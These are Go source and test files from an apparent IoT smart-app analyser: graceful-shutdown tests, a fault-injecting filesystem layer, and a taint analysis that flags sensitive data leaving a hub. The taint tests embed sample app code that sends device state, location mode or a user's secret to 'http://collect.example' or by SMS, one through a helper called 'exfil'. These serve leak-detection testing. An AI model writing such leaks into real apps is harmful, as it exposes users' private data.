	shutdownErr := make(chan error, 1)
	go func() {
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		shutdownErr <- s.Shutdown(ctx)
	}()
	waitFor(t, "server draining", func() bool { return s.Draining() })

	// New work and health checks are refused while draining.
	if resp, _ := postAsync(t, ts.URL); resp.StatusCode != http.StatusServiceUnavailable {
		t.Fatalf("submit while draining: %d, want 503", resp.StatusCode)
	}
	hresp, err := http.Get(ts.URL + "/healthz")
	if err != nil {
		t.Fatalf("healthz: %v", err)
	}
	hresp.Body.Close()
	if hresp.StatusCode != http.StatusServiceUnavailable {
		t.Fatalf("healthz while draining: %d, want 503", hresp.StatusCode)
	}

	// The drain must not complete while a job is still in flight.
	select {
	case err := <-shutdownErr:
		t.Fatalf("Shutdown returned %v with a job in flight", err)
	case <-time.After(50 * time.Millisecond):
	}

	close(release)
	select {
	case err := <-shutdownErr:
		if err != nil {
			t.Fatalf("Shutdown: %v", err)
		}
	case <-time.After(30 * time.Second):
		t.Fatal("Shutdown never returned after release")
	}

	// Both the in-flight and the queued job ran to completion, and
	// their records remain pollable after the drain.
	for _, body := range []map[string]any{bodyA, bodyB} {
		id, _ := body["job_id"].(string)
		j, ok := s.lookupJob(id)
		if !ok {
			t.Fatalf("job %s lost during drain", id)
		}
		if st, results, _ := j.snapshot(); st != statusDone || len(results) != 1 || results[0].Record == nil {
			t.Fatalf("job %s after drain: status %s, results %v", id, st, results)
		}
	}
}

// TestShutdownDeadlineCancelsBudgets exercises the forced-drain path:
// when the drain context expires, Shutdown cancels the jobs' base
// context so blocked analyses abort, and returns the context error
// after the workers exit.
func TestShutdownDeadlineCancelsBudgets(t *testing.T) {
	s, err := New(Config{Workers: 1, QueueDepth: 4})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	// The hook holds the job until the server's base context is
	// canceled — simulating an analysis that only stops when its
	// budget's context is torn down.
	hook := func(j *job) { <-s.baseCtx.Done() }
	testHookJobRunning.Store(&hook)
	t.Cleanup(func() { testHookJobRunning.Store(nil) })

	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	_, body := postAsync(t, ts.URL)
	id, _ := body["job_id"].(string)
	waitFor(t, "job running", func() bool {
		j, ok := s.lookupJob(id)
		if !ok {
			return false
		}
		st, _, _ := j.snapshot()
		return st == statusRunning
	})

	ctx, cancel := context.WithTimeout(context.Background(), 200*time.Millisecond)
	defer cancel()
	if err := s.Shutdown(ctx); !errors.Is(err, context.DeadlineExceeded) {
		t.Fatalf("Shutdown = %v, want DeadlineExceeded", err)
	}
	// The worker exited, which means the job finished (with whatever
	// partial verdict the canceled budget allowed).
	j, _ := s.lookupJob(id)
	select {
	case <-j.done:
	default:
		t.Fatal("job never completed after forced drain")
	}
}

func waitJobStatus(t *testing.T, base, id, want string) {
	t.Helper()
	waitFor(t, "job "+id+" "+want, func() bool {
		resp, err := http.Get(base + "/v1/jobs/" + id)
		if err != nil {
			return false
		}
		defer resp.Body.Close()
		var body map[string]any
		json.NewDecoder(resp.Body).Decode(&body)
		return body["status"] == want
	})
}

func waitFor(t *testing.T, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatalf("timed out waiting for %s", what)
		}
		time.Sleep(5 * time.Millisecond)
	}
}
