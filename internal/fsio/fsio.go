// Package fsio is the storage tier's filesystem seam. The persistent
// store and the job journal do all their file I/O through the FS
// interface so that
//
//   - production runs on OS (plain os calls plus the fsync protocol
//     helpers SyncDir needs),
//   - tests run on Faulty, which consults the faultinject error sites
//     (fsio.create/write/sync/rename/syncdir) to simulate short
//     writes, fsync failures, and crashed renames at exact protocol
//     steps, and
//   - the kill-restart chaos harness runs soteriad on Chaos, which
//     stretches every write into small chunks with scheduling yields
//     so a SIGKILL lands mid-write with useful probability.
//
// The interface is deliberately narrow: just the operations the
// crash-consistency protocols need (temp-file create, append-open,
// write, fsync, rename, remove, directory fsync, reads).
package fsio

import (
	"io/fs"
	"os"
	"path/filepath"
	"time"

	"github.com/soteria-analysis/soteria/internal/guard/faultinject"
)

// File is a writable file handle: the subset of *os.File the storage
// protocols use.
type File interface {
	Write(p []byte) (int, error)
	Sync() error
	Close() error
	Name() string
}

// FS abstracts the filesystem operations of the storage tier.
type FS interface {
	// MkdirAll creates dir and its parents.
	MkdirAll(dir string, perm fs.FileMode) error
	// CreateTemp creates a new temp file in dir (pattern as in
	// os.CreateTemp).
	CreateTemp(dir, pattern string) (File, error)
	// OpenAppend opens name for appending, creating it if absent.
	OpenAppend(name string) (File, error)
	// ReadFile reads the whole of name.
	ReadFile(name string) ([]byte, error)
	// ReadDir lists dir.
	ReadDir(dir string) ([]fs.DirEntry, error)
	// Rename atomically replaces newpath with oldpath.
	Rename(oldpath, newpath string) error
	// Remove deletes name.
	Remove(name string) error
	// SyncDir fsyncs the directory itself, making a preceding rename
	// or create durable.
	SyncDir(dir string) error
}

// OS is the production FS: plain os package calls.
type OS struct{}

func (OS) MkdirAll(dir string, perm fs.FileMode) error { return os.MkdirAll(dir, perm) }

func (OS) CreateTemp(dir, pattern string) (File, error) {
	f, err := os.CreateTemp(dir, pattern)
	if err != nil {
		return nil, err
	}
	return f, nil
}

func (OS) OpenAppend(name string) (File, error) {
	return os.OpenFile(name, os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o644)
}

func (OS) ReadFile(name string) ([]byte, error)      { return os.ReadFile(name) }
func (OS) ReadDir(dir string) ([]fs.DirEntry, error) { return os.ReadDir(dir) }
func (OS) Rename(oldpath, newpath string) error      { return os.Rename(oldpath, newpath) }
func (OS) Remove(name string) error                  { return os.Remove(name) }

// SyncDir opens dir and fsyncs it. Some filesystems (and some
// platforms) reject fsync on directories; that is indistinguishable
// from "already durable" for our purposes, so such errors are dropped.
func (OS) SyncDir(dir string) error {
	d, err := os.Open(dir)
	if err != nil {
		return err
	}
	serr := d.Sync()
	cerr := d.Close()
	if serr != nil {
		// EINVAL/ENOTSUP from directory fsync is a platform quirk, not
		// a write failure.
		return nil
	}
	return cerr
}

// Faulty wraps an FS with the faultinject error sites. Disarmed, every
// operation is one atomic load over the inner call; armed, the
// operation fails with the injected error — and an armed write first
// writes half its payload, so the failure is a genuine short write.
type Faulty struct{ Inner FS }

// base keys fault sites by the file's base name so a test can target
// one record of many.
func base(name string) string { return filepath.Base(name) }

func (f Faulty) MkdirAll(dir string, perm fs.FileMode) error { return f.Inner.MkdirAll(dir, perm) }

func (f Faulty) CreateTemp(dir, pattern string) (File, error) {
	if err := faultinject.Err(faultinject.SiteFSCreate, base(dir)); err != nil {
		return nil, err
	}
	file, err := f.Inner.CreateTemp(dir, pattern)
	if err != nil {
		return nil, err
	}
	return faultyFile{file}, nil
}

func (f Faulty) OpenAppend(name string) (File, error) {
	if err := faultinject.Err(faultinject.SiteFSCreate, base(name)); err != nil {
		return nil, err
	}
	file, err := f.Inner.OpenAppend(name)
	if err != nil {
		return nil, err
	}
	return faultyFile{file}, nil
}

func (f Faulty) ReadFile(name string) ([]byte, error)      { return f.Inner.ReadFile(name) }
func (f Faulty) ReadDir(dir string) ([]fs.DirEntry, error) { return f.Inner.ReadDir(dir) }

func (f Faulty) Rename(oldpath, newpath string) error {
	if err := faultinject.Err(faultinject.SiteFSRename, base(newpath)); err != nil {
		return err
	}
	return f.Inner.Rename(oldpath, newpath)
}

func (f Faulty) Remove(name string) error { return f.Inner.Remove(name) }

func (f Faulty) SyncDir(dir string) error {
	if err := faultinject.Err(faultinject.SiteFSSyncDir, base(dir)); err != nil {
		return err
	}
	return f.Inner.SyncDir(dir)
}

type faultyFile struct{ File }

func (f faultyFile) Write(p []byte) (int, error) {
	if err := faultinject.Err(faultinject.SiteFSWrite, base(f.Name())); err != nil {
		// A failed write is rarely clean in practice: flush what a torn
		// page would hold, then report the failure.
		n, _ := f.File.Write(p[:len(p)/2])
		return n, err
	}
	return f.File.Write(p)
}

func (f faultyFile) Sync() error {
	if err := faultinject.Err(faultinject.SiteFSSync, base(f.Name())); err != nil {
		return err
	}
	return f.File.Sync()
}

// Chaos wraps an FS for the kill-restart harness: every write is split
// into Chunk-byte pieces separated by Delay, so the window in which a
// SIGKILL interrupts a record or journal write mid-way is wide enough
// to hit reliably. Reads and metadata operations pass straight
// through; correctness must not depend on the wrapper.
type Chaos struct {
	Inner FS
	Chunk int           // bytes per write slice (<=0: 256)
	Delay time.Duration // pause between slices (<=0: 1ms)
}

func (c Chaos) chunk() int {
	if c.Chunk <= 0 {
		return 256
	}
	return c.Chunk
}

func (c Chaos) delay() time.Duration {
	if c.Delay <= 0 {
		return time.Millisecond
	}
	return c.Delay
}

func (c Chaos) MkdirAll(dir string, perm fs.FileMode) error { return c.Inner.MkdirAll(dir, perm) }

func (c Chaos) CreateTemp(dir, pattern string) (File, error) {
	f, err := c.Inner.CreateTemp(dir, pattern)
	if err != nil {
		return nil, err
	}
	return chaosFile{f, c}, nil
}

func (c Chaos) OpenAppend(name string) (File, error) {
	f, err := c.Inner.OpenAppend(name)
	if err != nil {
		return nil, err
	}
	return chaosFile{f, c}, nil
}

func (c Chaos) ReadFile(name string) ([]byte, error)      { return c.Inner.ReadFile(name) }
func (c Chaos) ReadDir(dir string) ([]fs.DirEntry, error) { return c.Inner.ReadDir(dir) }
func (c Chaos) Rename(oldpath, newpath string) error      { return c.Inner.Rename(oldpath, newpath) }
func (c Chaos) Remove(name string) error                  { return c.Inner.Remove(name) }
func (c Chaos) SyncDir(dir string) error                  { return c.Inner.SyncDir(dir) }

type chaosFile struct {
	File
	c Chaos
}

func (f chaosFile) Write(p []byte) (int, error) {
	total := 0
	for len(p) > 0 {
		n := f.c.chunk()
		if n > len(p) {
			n = len(p)
		}
		w, err := f.File.Write(p[:n])
		total += w
		if err != nil {
			return total, err
		}
		p = p[n:]
		if len(p) > 0 {
			time.Sleep(f.c.delay())
		}
	}
	return total, nil
}
