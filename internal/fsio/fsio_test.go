package fsio

import (
	"errors"
	"os"
	"path/filepath"
	"testing"

	"github.com/soteria-analysis/soteria/internal/guard/faultinject"
)

func TestOSRoundTrip(t *testing.T) {
	dir := t.TempDir()
	var fs FS = OS{}
	f, err := fs.CreateTemp(dir, ".tmp-*")
	if err != nil {
		t.Fatalf("CreateTemp: %v", err)
	}
	if _, err := f.Write([]byte("hello")); err != nil {
		t.Fatalf("Write: %v", err)
	}
	if err := f.Sync(); err != nil {
		t.Fatalf("Sync: %v", err)
	}
	if err := f.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}
	final := filepath.Join(dir, "final")
	if err := fs.Rename(f.Name(), final); err != nil {
		t.Fatalf("Rename: %v", err)
	}
	if err := fs.SyncDir(dir); err != nil {
		t.Fatalf("SyncDir: %v", err)
	}
	data, err := fs.ReadFile(final)
	if err != nil || string(data) != "hello" {
		t.Fatalf("ReadFile = %q, %v", data, err)
	}
	entries, err := fs.ReadDir(dir)
	if err != nil || len(entries) != 1 {
		t.Fatalf("ReadDir = %v, %v", entries, err)
	}
}

func TestOSOpenAppend(t *testing.T) {
	name := filepath.Join(t.TempDir(), "log")
	var fs FS = OS{}
	for _, chunk := range []string{"a", "b"} {
		f, err := fs.OpenAppend(name)
		if err != nil {
			t.Fatalf("OpenAppend: %v", err)
		}
		if _, err := f.Write([]byte(chunk)); err != nil {
			t.Fatalf("Write: %v", err)
		}
		if err := f.Close(); err != nil {
			t.Fatalf("Close: %v", err)
		}
	}
	data, _ := os.ReadFile(name)
	if string(data) != "ab" {
		t.Fatalf("appended file = %q, want ab", data)
	}
}

func TestFaultyShortWrite(t *testing.T) {
	defer faultinject.Reset()
	dir := t.TempDir()
	var fs FS = Faulty{Inner: OS{}}
	f, err := fs.CreateTemp(dir, ".tmp-*")
	if err != nil {
		t.Fatalf("CreateTemp: %v", err)
	}
	boom := errors.New("disk full")
	faultinject.ArmError(faultinject.SiteFSWrite, filepath.Base(f.Name()), boom)
	n, err := f.Write([]byte("0123456789"))
	if !errors.Is(err, boom) {
		t.Fatalf("Write error = %v, want injected", err)
	}
	if n != 5 {
		t.Fatalf("short write wrote %d bytes, want 5", n)
	}
	faultinject.Disarm(faultinject.SiteFSWrite)
	data, _ := os.ReadFile(f.Name())
	if string(data) != "01234" {
		t.Fatalf("torn file holds %q", data)
	}
}

func TestFaultySyncRenameSyncDir(t *testing.T) {
	defer faultinject.Reset()
	dir := t.TempDir()
	var fs FS = Faulty{Inner: OS{}}
	f, _ := fs.CreateTemp(dir, ".tmp-*")
	boom := errors.New("io error")

	faultinject.ArmError(faultinject.SiteFSSync, "", boom)
	if err := f.Sync(); !errors.Is(err, boom) {
		t.Fatalf("Sync error = %v, want injected", err)
	}
	faultinject.Disarm(faultinject.SiteFSSync)
	f.Close()

	faultinject.ArmError(faultinject.SiteFSRename, "final", boom)
	if err := fs.Rename(f.Name(), filepath.Join(dir, "final")); !errors.Is(err, boom) {
		t.Fatalf("Rename error = %v, want injected", err)
	}
	// A different target is untouched by the keyed fault.
	if err := fs.Rename(f.Name(), filepath.Join(dir, "other")); err != nil {
		t.Fatalf("Rename of unkeyed target: %v", err)
	}
	faultinject.Disarm(faultinject.SiteFSRename)

	faultinject.ArmError(faultinject.SiteFSSyncDir, "", boom)
	if err := fs.SyncDir(dir); !errors.Is(err, boom) {
		t.Fatalf("SyncDir error = %v, want injected", err)
	}
}

func TestFaultyErrorAfterFuse(t *testing.T) {
	defer faultinject.Reset()
	boom := errors.New("later")
	faultinject.ArmErrorAfter(faultinject.SiteFSSync, "", boom, 2)
	for i := 0; i < 2; i++ {
		if err := faultinject.Err(faultinject.SiteFSSync, "x"); err != nil {
			t.Fatalf("fuse fired early on hit %d: %v", i, err)
		}
	}
	if err := faultinject.Err(faultinject.SiteFSSync, "x"); !errors.Is(err, boom) {
		t.Fatalf("fuse did not fire: %v", err)
	}
}

func TestChaosChunkedWrite(t *testing.T) {
	dir := t.TempDir()
	var fs FS = Chaos{Inner: OS{}, Chunk: 3, Delay: 1}
	f, err := fs.CreateTemp(dir, ".tmp-*")
	if err != nil {
		t.Fatalf("CreateTemp: %v", err)
	}
	payload := []byte("0123456789")
	if n, err := f.Write(payload); n != len(payload) || err != nil {
		t.Fatalf("Write = %d, %v", n, err)
	}
	f.Close()
	data, _ := os.ReadFile(f.Name())
	if string(data) != string(payload) {
		t.Fatalf("chunked write produced %q", data)
	}
}
