// Tests for the T.1–T.6 sensitive-data-flow family. The table cases
// cross sources (device events, location mode, user inputs) with
// sinks (messaging, network), sanitizers, recipient positions, state
// indirection, and path conditions; the corpus tests then require the
// analysis to stay silent on every benign market and paper app.
package taint_test

import (
	"strings"
	"testing"

	"github.com/soteria-analysis/soteria/internal/ir"
	"github.com/soteria-analysis/soteria/internal/market"
	"github.com/soteria-analysis/soteria/internal/paperapps"
	"github.com/soteria-analysis/soteria/internal/statemodel"
	"github.com/soteria-analysis/soteria/internal/taint"
)

// app wraps a handler body (and optional extra declarations) into a
// complete presence-sensor app subscribed to "presence.not present".
func app(t *testing.T, body, extra string) string {
	t.Helper()
	return `
definition(name: "taint-case", namespace: "t", author: "t")
preferences {
    section("Devices") {
        input "kids", "capability.presenceSensor"
        input "secret", "text", title: "Secret note"
        input "phone", "phone", title: "Phone"
    }
}
def installed() { subscribe(kids, "presence", h) }
def h(evt) {
` + body + `
}
` + extra
}

func flowsOf(t *testing.T, source string, ids []string) []taint.Flow {
	t.Helper()
	a, err := ir.BuildSource("taint-case", source)
	if err != nil {
		t.Fatalf("parse: %v", err)
	}
	m, err := statemodel.Build(a)
	if err != nil {
		t.Fatalf("model: %v", err)
	}
	return taint.FromModel(m, ids)
}

// wantFlow is one expected flow, matched on its identifying fields.
type wantFlow struct {
	ID     string
	Source string
	Via    string
	Sink   string
	Cond   string // substring of Condition; "" means unconditional
}

func TestFlowTable(t *testing.T) {
	cases := []struct {
		name  string
		body  string
		extra string
		ids   []string // property filter (nil = all)
		want  []wantFlow
	}{
		{
			name: "device event field to SMS payload",
			body: `    sendSms("555-0100", "gone: ${evt.displayName}")`,
			want: []wantFlow{{ID: "T.2", Source: "evt.displayName", Sink: "sendSms"}},
		},
		{
			name: "device event field to network",
			body: `    httpPost("http://collect.example", "v=${evt.value}")`,
			want: []wantFlow{{ID: "T.1", Source: "evt.value", Sink: "httpPost"}},
		},
		{
			name: "location mode to push message",
			body: `    sendPush("mode is ${location.mode}")`,
			want: []wantFlow{{ID: "T.4", Source: "location.mode", Sink: "sendPush"}},
		},
		{
			name: "location mode into a URL",
			body: `    httpGet("http://collect.example/?m=${location.mode}")`,
			want: []wantFlow{{ID: "T.3", Source: "location.mode", Sink: "httpGet"}},
		},
		{
			name: "user input to SMS payload",
			body: `    sendSms("555-0100", "note: ${secret}")`,
			want: []wantFlow{{ID: "T.6", Source: "secret", Sink: "sendSms"}},
		},
		{
			name: "user input to network",
			body: `    httpPostJson("http://collect.example", "s=${secret}")`,
			want: []wantFlow{{ID: "T.5", Source: "secret", Sink: "httpPostJson"}},
		},
		{
			name: "notification carries the event",
			body: `    sendNotification("seen ${evt.displayName}")`,
			want: []wantFlow{{ID: "T.2", Source: "evt.displayName", Sink: "sendNotification"}},
		},
		{
			name: "sanitizer clears the mark",
			body: `    sendSms("555-0100", "gone: ${redact(evt.displayName)}")`,
			want: nil,
		},
		{
			name: "sanitizer clears the mark for network",
			body: `    httpPost("http://collect.example", "v=${anonymize(evt.value)}")`,
			want: nil,
		},
		{
			name: "user input in the recipient position is not a leak",
			body: `    sendSms(phone, "kids left home")`,
			want: nil,
		},
		{
			name: "constant payload is clean",
			body: `    sendPush("kids left home")`,
			want: nil,
		},
		{
			name: "same-handler state write-then-read is a direct flow",
			body: `    state.last = evt.displayName
    sendSms("555-0100", "last: ${state.last}")`,
			want: []wantFlow{{ID: "T.2", Source: "evt.displayName", Sink: "sendSms"}},
		},
		{
			name: "conditional flow carries its path condition",
			body: `    if (evt.value == "not present") {
        httpPost("http://collect.example", "left: ${evt.displayName}")
    }`,
			want: []wantFlow{{ID: "T.1", Source: "evt.displayName", Sink: "httpPost", Cond: `evt.value == "not present"`}},
		},
		{
			name: "contradictory branch is pruned",
			body: `    if (evt.value == "present") {
        if (evt.value == "not present") {
            sendSms("555-0100", "impossible: ${evt.displayName}")
        }
    }`,
			want: nil,
		},
		{
			name: "flow through a helper method call",
			body: `    exfil("pfx: ${evt.displayName}")`,
			extra: `
def exfil(msg) {
    sendSms("555-0100", msg)
}
`,
			want: []wantFlow{{ID: "T.2", Source: "evt.displayName", Sink: "sendSms"}},
		},
		{
			name: "property filter excludes other families",
			body: `    sendSms("555-0100", "gone: ${evt.displayName}")
    httpPost("http://collect.example", "v=${evt.value}")`,
			ids:  []string{"T.1"},
			want: []wantFlow{{ID: "T.1", Source: "evt.value", Sink: "httpPost"}},
		},
		{
			name: "wildcard filter keeps the whole family",
			body: `    sendSms("555-0100", "gone: ${evt.displayName}")`,
			ids:  []string{"T.*"},
			want: []wantFlow{{ID: "T.2", Source: "evt.displayName", Sink: "sendSms"}},
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			flows := flowsOf(t, app(t, tc.body, tc.extra), tc.ids)
			if len(flows) != len(tc.want) {
				t.Fatalf("got %d flows, want %d:\n%+v", len(flows), len(tc.want), flows)
			}
			for i, w := range tc.want {
				f := flows[i]
				if f.ID != w.ID || f.Source != w.Source || f.Via != w.Via || f.Sink != w.Sink {
					t.Errorf("flow %d = %s %s via %q -> %s, want %s %s via %q -> %s",
						i, f.ID, f.Source, f.Via, f.Sink, w.ID, w.Source, w.Via, w.Sink)
				}
				if w.Cond != "" && !strings.Contains(f.Condition, w.Cond) {
					t.Errorf("flow %d condition = %q, want it to mention %q", i, f.Condition, w.Cond)
				}
				if w.Cond == "" && f.Condition != "true" {
					t.Errorf("flow %d condition = %q, want unconditional", i, f.Condition)
				}
				if len(f.Witness) == 0 {
					t.Errorf("flow %d has no witness", i)
				}
				joined := strings.Join(f.Witness, "\n")
				if !strings.Contains(joined, "(satisfiable)") {
					t.Errorf("flow %d witness lacks a satisfiable path condition:\n%s", i, joined)
				}
				if !strings.Contains(joined, f.Sink) {
					t.Errorf("flow %d witness does not show the sink call:\n%s", i, joined)
				}
			}
		})
	}
}

func TestCatalogue(t *testing.T) {
	specs := taint.Catalogue()
	if len(specs) != 6 {
		t.Fatalf("catalogue has %d specs, want 6", len(specs))
	}
	ids := taint.IDs()
	for i, s := range specs {
		want := "T." + string(rune('1'+i))
		if s.ID != want || ids[i] != want {
			t.Errorf("spec %d: ID %s / %s, want %s", i, s.ID, ids[i], want)
		}
		if s.Description == "" {
			t.Errorf("%s: empty description", s.ID)
		}
	}
}

func TestMatchIDs(t *testing.T) {
	admitted := func(filter func(string) bool) []string {
		var out []string
		for _, id := range taint.IDs() {
			if filter(id) {
				out = append(out, id)
			}
		}
		return out
	}
	cases := []struct {
		in   []string
		want int
	}{
		{nil, 6},
		{[]string{}, 6},
		{[]string{"T.*"}, 6},
		{[]string{"T.2"}, 1},
		{[]string{"T.2", "T.5"}, 2},
		{[]string{"P.10"}, 0},
		{[]string{"P.10", "T.1"}, 1},
		{[]string{"T.99"}, 0},
	}
	for _, tc := range cases {
		if got := admitted(taint.MatchIDs(tc.in)); len(got) != tc.want {
			t.Errorf("MatchIDs(%v) admits %v, want %d IDs", tc.in, got, tc.want)
		}
	}
}

func TestViolationsMirrorFlows(t *testing.T) {
	flows := flowsOf(t, app(t, `    sendSms("555-0100", "gone: ${evt.displayName}")`, ""), nil)
	if len(flows) != 1 {
		t.Fatalf("flows = %+v", flows)
	}
	vs := taint.Violations(flows)
	if len(vs) != 1 {
		t.Fatalf("violations = %+v", vs)
	}
	v := vs[0]
	if v.ID != "T.2" || v.Kind.String() != "taint" {
		t.Errorf("violation = %s [%s]", v.ID, v.Kind)
	}
	if v.Counterexample != strings.Join(flows[0].Witness, "\n") {
		t.Errorf("counterexample does not carry the witness:\n%s", v.Counterexample)
	}
}

// TestBenignCorporaStaySilent runs the full taint family over every
// market app and every paper app: all are benign, so any finding is a
// false positive.
func TestBenignCorporaStaySilent(t *testing.T) {
	for _, spec := range market.All() {
		a, err := spec.Parse()
		if err != nil {
			t.Fatalf("%s: parse: %v", spec.ID, err)
		}
		m, err := statemodel.Build(a)
		if err != nil {
			t.Fatalf("%s: model: %v", spec.ID, err)
		}
		if flows := taint.FromModel(m, nil); len(flows) != 0 {
			t.Errorf("%s: false-positive taint flows: %+v", spec.ID, flows)
		}
	}
	for _, papp := range paperapps.Corpus() {
		a, err := ir.BuildSource(papp.Name, papp.Source)
		if err != nil {
			t.Fatalf("%s: parse: %v", papp.Name, err)
		}
		m, err := statemodel.Build(a)
		if err != nil {
			t.Fatalf("%s: model: %v", papp.Name, err)
		}
		if flows := taint.FromModel(m, nil); len(flows) != 0 {
			t.Errorf("%s: false-positive taint flows: %+v", papp.Name, flows)
		}
	}
}
