// Package taint implements Soteria's sensitive-data-flow property
// family (T.1–T.6), the SainT-style analysis ("Sensitive Information
// Tracking in Commodity IoT", same authors): sensitive sources —
// device state, the location mode, install-time user inputs — must not
// flow into transmission sinks — network calls and messages.
//
// The analysis is a source/sink/sanitizer lattice over the IR,
// evaluated on the symbolic-execution results already computed for the
// state model: internal/symexec propagates taint marks through
// expressions and records every transmission call with the path
// condition that reaches it, and this package resolves the marks
// against the sink policy (payload vs recipient argument positions),
// chases persistent state variables through internal/dataflow's
// def-use chains (Algorithm 1, with infeasible-path pruning), and
// reports each leak with a feasible witness path — source → sink with
// the satisfiable path condition — rather than a syntactic
// reachability claim. Sanitizer calls (redact/anonymize/obfuscate)
// clear marks during symbolic execution, so a sanitized flow is not
// reported.
package taint

import (
	"fmt"
	"sort"
	"strings"

	"github.com/soteria-analysis/soteria/internal/cfg"
	"github.com/soteria-analysis/soteria/internal/dataflow"
	"github.com/soteria-analysis/soteria/internal/groovy"
	"github.com/soteria-analysis/soteria/internal/ir"
	"github.com/soteria-analysis/soteria/internal/pathcond"
	"github.com/soteria-analysis/soteria/internal/properties"
	"github.com/soteria-analysis/soteria/internal/statemodel"
	"github.com/soteria-analysis/soteria/internal/symexec"
)

// Class is a sensitive-source class.
type Class string

// Source classes.
const (
	DeviceState  Class = "device-state"
	LocationMode Class = "location-mode"
	UserInput    Class = "user-input"
)

// Channel is a transmission-sink channel.
type Channel string

// Sink channels.
const (
	Network   Channel = "network"
	Messaging Channel = "messaging"
)

// Spec is one property of the taint family: a (source class, sink
// channel) pair with a catalogue ID.
type Spec struct {
	ID          string
	Source      Class
	Channel     Channel
	Description string
}

// catalogue is the T family in ID order.
var catalogue = []Spec{
	{ID: "T.1", Source: DeviceState, Channel: Network,
		Description: "device state must not leave the hub via network calls"},
	{ID: "T.2", Source: DeviceState, Channel: Messaging,
		Description: "device state must not leave the hub via messages (SMS/push/notification)"},
	{ID: "T.3", Source: LocationMode, Channel: Network,
		Description: "the location mode must not leave the hub via network calls"},
	{ID: "T.4", Source: LocationMode, Channel: Messaging,
		Description: "the location mode must not leave the hub via messages"},
	{ID: "T.5", Source: UserInput, Channel: Network,
		Description: "user inputs must not leave the hub via network calls"},
	{ID: "T.6", Source: UserInput, Channel: Messaging,
		Description: "user inputs must not leave the hub via messages"},
}

// Catalogue returns the taint property family in ID order.
func Catalogue() []Spec {
	out := make([]Spec, len(catalogue))
	copy(out, catalogue)
	return out
}

// IDs returns the family's property IDs in order.
func IDs() []string {
	out := make([]string, len(catalogue))
	for i, s := range catalogue {
		out[i] = s.ID
	}
	return out
}

// specFor maps a (class, channel) pair to its spec.
func specFor(c Class, ch Channel) (Spec, bool) {
	for _, s := range catalogue {
		if s.Source == c && s.Channel == ch {
			return s, true
		}
	}
	return Spec{}, false
}

// MatchIDs builds an ID filter from a PropertyIDs-style list: an empty
// list admits the whole family; "T.*" admits the whole family; exact
// T.n entries admit those properties. Non-taint IDs (P.7, S.1) are
// ignored — they filter the other catalogues.
func MatchIDs(ids []string) func(string) bool {
	if len(ids) == 0 {
		return func(string) bool { return true }
	}
	all := false
	set := map[string]bool{}
	for _, id := range ids {
		if id == "T.*" {
			all = true
		}
		if strings.HasPrefix(id, "T.") {
			set[id] = true
		}
	}
	return func(id string) bool { return all || set[id] }
}

// sinkSpec is the per-sink policy.
type sinkSpec struct {
	Channel Channel
	// Payload lists the argument positions carrying transmitted data;
	// nil means every argument. Recipient positions (the phone number
	// of sendSms, the contact list of sendNotificationToContacts) are
	// excluded: they are user-designated destinations, not leaked data.
	Payload []int
}

func (s sinkSpec) isPayload(i int) bool {
	if s.Payload == nil {
		return true
	}
	for _, p := range s.Payload {
		if p == i {
			return true
		}
	}
	return false
}

// sinkSpecs is the SainT sink set over the SmartThings API.
var sinkSpecs = map[string]sinkSpec{
	"sendSms":                    {Channel: Messaging, Payload: []int{1}},
	"sendSmsMessage":             {Channel: Messaging, Payload: []int{1}},
	"sendPush":                   {Channel: Messaging, Payload: []int{0}},
	"sendPushMessage":            {Channel: Messaging, Payload: []int{0}},
	"sendNotification":           {Channel: Messaging, Payload: []int{0}},
	"sendNotificationToContacts": {Channel: Messaging, Payload: []int{0}},
	"sendNotificationEvent":      {Channel: Messaging, Payload: []int{0}},
	"httpGet":                    {Channel: Network},
	"httpPost":                   {Channel: Network},
	"httpPostJson":               {Channel: Network},
	"httpPut":                    {Channel: Network},
	"httpPutJson":                {Channel: Network},
	"httpDelete":                 {Channel: Network},
	"httpHead":                   {Channel: Network},
}

// Flow is one reported sensitive-data flow: a source reaching a sink
// on a feasible path. All fields are plain data so the flow round-trips
// through the schema-versioned report record byte-identically.
type Flow struct {
	ID  string // catalogue ID, "T.1"–"T.6"
	App string
	// Handler and Event identify the entry point the flow executes in.
	Handler string
	Event   string
	// Source is the canonical sensitive variable ("evt.displayName",
	// "the_lock.lock", "location.mode", an input handle).
	Source      string
	SourceClass string
	// Via names the persistent state field the source flowed through
	// ("state.lastSeen"); empty for direct flows.
	Via string
	// Sink and Channel identify the transmission.
	Sink    string
	Channel string
	Line    int
	// Condition is the canonical satisfiable path condition reaching
	// the sink ("true" when unconditional).
	Condition string
	// Witness is the rendered source→sink path, one step per line.
	Witness []string
}

// Detail renders the one-line instance description used in violation
// reports.
func (f Flow) Detail() string {
	src := f.Source
	if f.Via != "" {
		src += " (via " + f.Via + ")"
	}
	d := fmt.Sprintf("%s: %s flows to %s (line %d)", f.App, src, f.Sink, f.Line)
	if f.Condition != "true" {
		d += " when " + f.Condition
	}
	return d
}

// origin is a resolved sensitive source.
type origin struct {
	Class Class
	Var   string
	Via   string // state field chain entry, "" for direct
}

// FromModel evaluates the taint family over an already-built state
// model (the per-app symbolic-execution results it retains), filtered
// by the PropertyIDs-style list. Flows are sorted and deduplicated;
// only flows whose path condition is satisfiable are reported.
func FromModel(m *statemodel.Model, ids []string) []Flow {
	match := MatchIDs(ids)
	var flows []Flow
	for _, am := range m.Apps {
		flows = append(flows, appFlows(am.App, am.Results, match)...)
	}
	SortFlows(flows)
	return dedupeFlows(flows)
}

// appFlows evaluates one app's symbolic-execution results against the
// sink policy.
func appFlows(app *ir.App, results []*symexec.Result, match func(string) bool) []Flow {
	var rv *resolver // built lazily: only state-variable marks need it
	var flows []Flow
	for _, r := range results {
		for _, s := range r.Sinks {
			spec, isSink := sinkSpecs[s.Name]
			if !isSink {
				continue
			}
			if !pathcond.Feasible(s.Guard) {
				continue
			}
			for i, arg := range s.Args {
				if !spec.isPayload(i) {
					continue
				}
				for _, l := range arg.Taint {
					var origins []origin
					switch l.Kind {
					case pathcond.UserDefined:
						origins = []origin{{Class: UserInput, Var: l.Var}}
					case pathcond.DeviceState:
						if l.Var == "location.mode" {
							origins = []origin{{Class: LocationMode, Var: l.Var}}
						} else {
